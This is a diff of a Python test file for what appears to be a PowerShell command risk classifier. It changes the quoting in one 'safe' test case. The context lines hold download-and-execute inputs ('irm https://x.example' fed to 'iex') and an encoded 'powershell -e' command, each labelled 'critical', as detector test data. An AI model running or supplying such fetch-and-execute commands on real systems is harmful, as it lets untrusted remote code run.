@@ -146,7 +146,7 @@ def test_a_command_is_the_same_however_it_is_written(text):
         ("$x = 'Get-Date'; while ($true) { iex $x; $x = irm https://x.example }", "critical"),
         ('$x = irm https://x.example/a; $y = "$x"; $z = $y.Trim(); iex $z', "critical"),
         ("powershell -e RwBlAHQALQBEAGEAdABlAA==", "critical"),
-        ("$a = New-Item function:f -Value { 1 }; \"$a\"", "safe"),
+        ('$a = New-Item function:f -Value { 1 }; "$a"', "safe"),
     ],
 )
 def test_what_is_not_known_counts_as_the_worst(text, level):
